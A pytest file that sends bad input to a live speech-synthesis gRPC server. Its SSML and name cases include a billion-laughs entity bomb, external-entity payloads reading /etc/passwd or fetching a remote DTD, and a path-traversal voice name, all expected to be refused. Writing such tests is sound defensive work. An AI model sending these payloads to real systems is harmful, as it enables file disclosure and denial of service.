"""Bad input against the live server: every case gets its documented status, naming the field,
or valid audio; and the server is healthy afterwards.

Values that a later encoding or rate could make valid are avoided on purpose: encodings
15 and 99, rates 7999, 48001 and 1, speaker_id -1 and 9999 stay invalid whatever is added
(encodings 4 to 7 and rates 8,000 to 48,000 are valid now).

SSML (text_format SSML) and lexicons: hostile XML (entity bombs, external entities, DOCTYPEs,
deep nesting, huge attributes, unclosed tags), IPA a voice cannot speak and lexicon bombs are
refused while the request is read: INVALID_ARGUMENT naming the field, and no inference runs.

Lone surrogates (category Cs) cannot be sent at all: protobuf strings are UTF-8 and the
client refuses to serialize them (test_lone_surrogates_never_leave_the_client).
"""

from __future__ import annotations

import asyncio
import uuid

import grpc
import numpy as np
import pytest
from grpc_health.v1 import health_pb2, health_pb2_grpc

from speakstream.v1 import synthesizer_pb2 as pb

_TIMEOUT = 60
_HELLO = "Hello there."
_IA, _NF, _RE = grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.NOT_FOUND, grpc.StatusCode.RESOURCE_EXHAUSTED
_NAN, _INF = float("nan"), float("inf")
_AUDIO = None  # expect valid audio


def _case(id, expected, text=_HELLO, **fields):
    """One case: request fields, and the (code, field named first in the message) or _AUDIO."""
    return pytest.param(dict(text=text, **fields), expected, id=id)


_KNOBS = [
    _case("speed below", (_IA, "speed"), speed=0.1),
    _case("speed above", (_IA, "speed"), speed=5.0),
    _case("speed zero", (_IA, "speed"), speed=0.0),
    _case("speed negative", (_IA, "speed"), speed=-1.0),
    _case("speed NaN", (_IA, "speed"), speed=_NAN),
    _case("speed inf", (_IA, "speed"), speed=_INF),
    _case("speed -inf", (_IA, "speed"), speed=-_INF),
    _case("noise_scale below", (_IA, "noise_scale"), noise_scale=-0.1),
    _case("noise_scale above", (_IA, "noise_scale"), noise_scale=2.5),
    _case("noise_scale NaN", (_IA, "noise_scale"), noise_scale=_NAN),
    _case("noise_w below", (_IA, "noise_w"), noise_w=-1.0),
    _case("noise_w above", (_IA, "noise_w"), noise_w=3.0),
    _case("noise_w inf", (_IA, "noise_w"), noise_w=_INF),
    _case("sentence_silence_s below", (_IA, "sentence_silence_s"), sentence_silence_s=-0.5),
    _case("sentence_silence_s above", (_IA, "sentence_silence_s"), sentence_silence_s=6.0),
    _case("sentence_silence_s NaN", (_IA, "sentence_silence_s"), sentence_silence_s=_NAN),
    _case("chunk_ms 1", (_IA, "chunk_ms"), chunk_ms=1),
    _case("chunk_ms below", (_IA, "chunk_ms"), chunk_ms=19),
    _case("chunk_ms above", (_IA, "chunk_ms"), chunk_ms=10_001),
    _case("chunk_ms max uint32", (_IA, "chunk_ms"), chunk_ms=2**32 - 1),
    # The edges of each range are valid.
    _case("speed 0.25", _AUDIO, speed=0.25),
    _case("speed 4", _AUDIO, speed=4.0),
    _case("noise 0 and 2", _AUDIO, noise_scale=0.0, noise_w=2.0),
    _case("silence 5 s", _AUDIO, text="One. Two.", sentence_silence_s=5.0),
    _case("chunk_ms 20", _AUDIO, chunk_ms=20),
]

_TEXTS = [
    _case("empty", (_IA, "text"), text=""),
    _case("only whitespace", (_IA, "text"), text=" \t\n\r\n "),
    _case("Zs space variants only", (_IA, "text"), text="\u00a0\u2003\u3000\u202f"),
    _case("only punctuation", (_IA, "text"), text="...!!!???"),
    _case("only dashes and commas", (_IA, "text"), text="-- ,,, ;; «»"),
    _case("over max chars", (_IA, "text"), text="a " * 5_000 + "b"),
    _case("Cc controls only", (_IA, "text"), text="\x00\x01\x07\x1b\x7f"),
    _case("Cc inside words", _AUDIO, text="hello\x00world\x07 and\x1bmore"),
    _case("Cf zero-width only", (_IA, "text"), text="\u200b\u200c\u200d\u2060\ufeff"),
    _case("Cf bidi only", (_IA, "text"), text="\u202e\u2066\u200f\u061c"),
    _case("Cf inside words", _AUDIO, text="hel\u200blo \u202eworld\u202c, soft\u00adware"),
    _case("Mn combining flood", _AUDIO, text="a" + "\u0301" * 5_000 + " word"),
    _case("Mn only", (_IA, "text"), text="\u0301\u0302\u0303" * 100),
    _case("So emoji", _AUDIO, text="😀🎉👍🏽"),
    _case("So emoji ZWJ family", _AUDIO, text="👨\u200d👩\u200d👧\u200d👦"),
    _case("Sm math symbols", _AUDIO, text="∑ ∫ √ ≠"),
    _case("Co private use only", (_IA, "text"), text="\ue000\uf8ff\U000f0000"),
    _case("Co among words", _AUDIO, text="private \ue000 use"),
    _case("Cn unassigned only", (_IA, "text"), text="\u0378\u0379\U000e0080"),
    _case("Zl Zp separators only", (_IA, "text"), text="\u2028\u2029"),
    _case("CJK", _AUDIO, text="你好，世界。"),
    _case("Arabic", _AUDIO, text="مرحبا بالعالم"),
    _case("Hebrew", _AUDIO, text="שלום עולם"),
    _case("Devanagari", _AUDIO, text="नमस्ते दुनिया"),
    _case("Cyrillic", _AUDIO, text="Привет, мир."),
    _case("Thai", _AUDIO, text="สวัสดีชาวโลก"),
    _case("mixed scripts", _AUDIO, text="Hi 😀 مرحبا 你好 नमस्ते."),
]

_NAMES = [
    _case("unknown voice", (_NF, "voice"), voice="no-such-voice"),
    _case("voice path", (_NF, "voice"), voice="../../etc/passwd"),
    _case("speaker_id -1", (_NF, "speaker_id"), speaker_id=-1),
    _case("speaker_id 9999", (_NF, "speaker_id"), speaker_id=9999),
    _case("unknown speaker name", (_NF, "speaker"), speaker="nobody"),
    # Encodings 4 to 14 may become valid; 15 and 99 stay unknown.
    _case("encoding 15", (_IA, "encoding"), encoding=15),
    _case("encoding 99", (_IA, "encoding"), encoding=99),
    # Rates 8000 to 48000 may become valid (resampling); these stay out of range.
    _case("sample_rate_hz 7999", (_IA, "sample_rate_hz"), sample_rate_hz=7999),
    _case("sample_rate_hz 48001", (_IA, "sample_rate_hz"), sample_rate_hz=48_001),
    _case("sample_rate_hz 1", (_IA, "sample_rate_hz"), sample_rate_hz=1),
]


def _ssml(id, expected, text, **fields):
    """A case whose text is SSML."""
    return _case(id, expected, text, text_format=pb.TEXT_FORMAT_SSML, **fields)


def _entries(*entries) -> list:
    return [pb.LexiconEntry(text=text, ipa=ipa) for text, ipa in entries]


def _nested_entities(depth: int) -> str:
    """The billion laughs: each entity ten of the one before (10**depth "lol"s)."""
    declarations = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, depth + 1))
    return f'<?xml version="1.0"?><!DOCTYPE speak [{declarations}]><speak>&lol{depth};</speak>'


_SSML_CASES = [
    _ssml("billion laughs", (_IA, "text"), _nested_entities(9)),
    _ssml("external entity", (_IA, "text"),
          '<!DOCTYPE speak [<!ENTITY x SYSTEM "file:///etc/passwd">]><speak>&x;</speak>'),
    _ssml("parameter entity", (_IA, "text"),
          '<!DOCTYPE speak [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]><speak>x</speak>'),
    _ssml("DOCTYPE alone", (_IA, "text"), '<!DOCTYPE speak><speak>Hello.</speak>'),
    _ssml("undefined entity", (_IA, "text"), "<speak>Fish &chips;</speak>"),
    _ssml("deep nesting", (_IA, "text"), "<speak>" + "<prosody>" * 2_000 + "deep"),
    _ssml("unclosed tag", (_IA, "text"), "<speak><s>Hello there."),
    _ssml("mismatched tags", (_IA, "text"), "<speak><s>Hello</p></speak>"),
    _ssml("not XML at all", (_IA, "text"), "Hello <world & friends"),
    _ssml("root is not speak", (_IA, "text"), "<p>Hello.</p>"),
    _ssml("text after the root", (_IA, "text"), "<speak>Hello.</speak> and more"),
    _ssml("huge attribute", (_IA, "text"), f'<speak><sub alias="{"x " * 2_000}">y</sub></speak>'),
    _ssml("invalid IPA", (_IA, "text"), '<speak><phoneme ph="ɡoʊ g">go</phoneme></speak>'),
    _ssml("reserved phoneme", (_IA, "text"), '<speak><phoneme ph="^ə$">a</phoneme></speak>'),
    _ssml("empty ph", (_IA, "text"), '<speak><phoneme ph="  ">a</phoneme></speak>'),
    _ssml("phoneme without ph", (_IA, "text"), "<speak><phoneme>a</phoneme></speak>"),
    _ssml("x-sampa alphabet", (_IA, "text"), '<speak><phoneme alphabet="x-sampa" ph="h@l">a</phoneme></speak>'),
    _ssml("markup inside phoneme", (_IA, "text"), '<speak><phoneme ph="ə"><break/>a</phoneme></speak>'),
    _ssml("sub without alias", (_IA, "text"), "<speak><sub>WHO</sub></speak>"),
    _ssml("say-as without interpret-as", (_IA, "text"), "<speak><say-as>12</say-as></speak>"),
    _ssml("break too long", (_IA, "text"), '<speak>a <break time="11s"/> b</speak>'),
    _ssml("break time not a time", (_IA, "text"), '<speak>a <break time="soon"/> b</speak>'),
    _ssml("break strength unknown", (_IA, "text"), '<speak>a <break strength="huge"/> b</speak>'),
    _ssml("breaks add up too long", (_IA, "text"), "<speak>" + '<break time="10s"/>' * 31 + "a</speak>"),
    _ssml("prosody rate unknown", (_IA, "text"), '<speak><prosody rate="quick">a</prosody></speak>'),
    _ssml("prosody rate beyond speed", (_IA, "text"), '<speak><prosody rate="500%">a</prosody></speak>'),
    _ssml("prosody rate with speed", (_IA, "text"), '<speak><prosody rate="x-slow">a</prosody></speak>',
          speed=0.25),
    _ssml("prosody volume too loud", (_IA, "text"), '<speak><prosody volume="+40dB">a</prosody></speak>'),
    _ssml("markup only", (_IA, "text"), "<speak><s> </s><p/></speak>"),
    _case("text_format unknown", (_IA, "text_format"), "Hello.", text_format=7),
    _case("inline IPA unknown", (_IA, "text"), "Say [[ ɡoʊ g ]] now."),
    _case("inline IPA reserved", (_IA, "text"), "Say [[ _ ]] now."),
    # Accepted SSML: what is unusual but fine speaks.
    _ssml("XML declaration, comment, PI, CDATA", _AUDIO,
          '<?xml version="1.0" encoding="UTF-8"?><!-- hi --><?pi x?><speak><![CDATA[Fish & <chips>]]></speak>'),
    _ssml("unknown tags are spoken", _AUDIO, "<speak><emphasis><voice name='x'>Hello</voice></emphasis></speak>"),
    _ssml("every tag", _AUDIO, '<speak><p><s>Hi <break time="10ms"/><prosody rate="fast" volume="soft">there'
                               '</prosody> <phoneme ph="tˈuː">two</phoneme> <sub alias="three">3</sub> '
                               '<say-as interpret-as="ordinal">4</say-as>.</s></p></speak>'),
    _ssml("a break alone", _AUDIO, '<speak><break time="50ms"/>Hi</speak>'),
]

_LEXICON_CASES = [
    _case("lexicon too many entries", (_IA, "lexicon"), lexicon=_entries(*[("w", "ə")] * 257)),
    _case("lexicon too many characters", (_IA, "lexicon"), lexicon=_entries(*[("w" * 99, "ə" * 99)] * 42)),
    _case("lexicon bomb: one letter, 100 phonemes", (_IA, "lexicon[0].ipa"), text="a " * 2_000,
          lexicon=_entries(("a", "ə" * 100))),
    _case("lexicon invalid IPA", (_IA, "lexicon[1].ipa"), lexicon=_entries(("hi", "hˈaɪ"), ("there", "ðɛɹ g"))),
    _case("lexicon entry without a word", (_IA, "lexicon[0].text"), lexicon=_entries(("...", "ə"))),
    _case("lexicon entry text too long", (_IA, "lexicon[0].text"), lexicon=_entries(("x" * 101, "ə"))),
    _case("lexicon 256 nested phrases", _AUDIO, text="a " * 300,
          lexicon=_entries(*[(" ".join(["a"] * (1 + n % 30)), "ɐ") for n in range(256)])),
]


async def _stream(stub, fields: dict, request_id: str = "") -> list:
    """All chunks of a stream, as FLOAT32 (to check finiteness) unless the case sets an encoding."""
    fields = {"encoding": pb.AUDIO_ENCODING_FLOAT32, **fields}
    metadata = (("x-request-id", request_id),) if request_id else None
    call = stub.SynthesizeStream(pb.SynthesizeRequest(**fields), timeout=_TIMEOUT, metadata=metadata)
    return [c async for c in call]


def _check_audio(chunks) -> None:
    assert chunks and chunks[-1].final
    audio = np.frombuffer(b"".join(c.audio for c in chunks), dtype="<f4")
    assert audio.size > 0 and np.isfinite(audio).all()
    assert np.abs(audio).max() > 0.01  # not silence


@pytest.mark.slow
@pytest.mark.parametrize("fields, expected", _KNOBS + _TEXTS + _NAMES + _SSML_CASES + _LEXICON_CASES)
async def test_bad_input_gets_its_status_or_valid_audio(app, stub, fields, expected):
    if expected is _AUDIO:
        _check_audio(await _stream(stub, fields))
        return
    code, field = expected
    request_id = f"bad-{uuid.uuid4().hex[:12]}"
    with pytest.raises(grpc.aio.AioRpcError) as info:
        await _stream(stub, fields, request_id)
    assert info.value.code() == code, info.value.details()
    assert info.value.details().startswith(f"{field}: "), info.value.details()
    # Refused while its fields were read: not one inference ran for it.
    assert not [run for run in app.scheduler.run_log if run.owner.startswith(request_id)]


@pytest.mark.parametrize("text", ["...", "\u200b\u200b", "\u0301" * 10, "\x00"])
async def test_unary_nothing_speakable_is_invalid_argument(stub, text):
    with pytest.raises(grpc.aio.AioRpcError) as info:
        await stub.Synthesize(pb.SynthesizeRequest(text=text), timeout=_TIMEOUT)
    assert info.value.code() == _IA
    assert info.value.details().startswith("text: ")


async def test_a_request_over_the_message_limit_is_resource_exhausted(app, stub):
    """Text far beyond --max-chars is refused by gRPC's receive limit before it is parsed."""
    text = "word " * (app.settings.max_chars * 4)  # 20 x max_chars bytes, over 4 x max_chars + 64 KiB
    with pytest.raises(grpc.aio.AioRpcError) as info:
        await stub.Synthesize(pb.SynthesizeRequest(text=text), timeout=_TIMEOUT)
    assert info.value.code() == _RE


@pytest.mark.slow
async def test_a_10000_character_word_streams_in_bounded_pieces(app, stub):
    """A word espeak-ng spells out: segments stay within --max-phonemes-per-chunk, the first audio comes
    as for any text; read a few chunks and hang up (speaking it all takes minutes of audio)."""
    call = stub.SynthesizeStream(pb.SynthesizeRequest(text="abcdefghij" * 1_000,
                                                      encoding=pb.AUDIO_ENCODING_FLOAT32), timeout=_TIMEOUT)
    chunks = [await asyncio.wait_for(call.read(), _TIMEOUT) for _ in range(3)]
    call.cancel()
    _check_audio_pieces(chunks, app.voices.default.config.sample_rate)


def _check_audio_pieces(chunks, rate: int) -> None:
    for chunk in chunks:
        audio = np.frombuffer(chunk.audio, dtype="<f4")
        assert audio.size > 0 and np.isfinite(audio).all()
        # 100 phonemes (+ the sentence silence) at most: well under 20 s of audio per inference.
        assert audio.size < 20 * rate


def test_lone_surrogates_never_leave_the_client():
    with pytest.raises(UnicodeEncodeError):
        pb.SynthesizeRequest(text="a\ud800b").SerializeToString()


async def test_the_server_is_healthy_after_the_bad_input(app, channel, stub):
    """Runs after the cases above (file order): no call failed INTERNAL, nothing is left running."""
    await asyncio.wait_for(app.scheduler.wait_idle(), _TIMEOUT)
    assert app.metrics.count(status="INTERNAL") == 0
    assert app.scheduler.active_calls == 0 and app.scheduler.running == {}
    response = await health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=_TIMEOUT)
    assert response.status == health_pb2.HealthCheckResponse.SERVING
    sessions = app.pool.loaded(app.voices.default)
    assert all(slot.failures == 0 and slot.in_flight == 0 for slot in sessions.slots)
    _check_audio(await _stream(stub, {"text": _HELLO}))
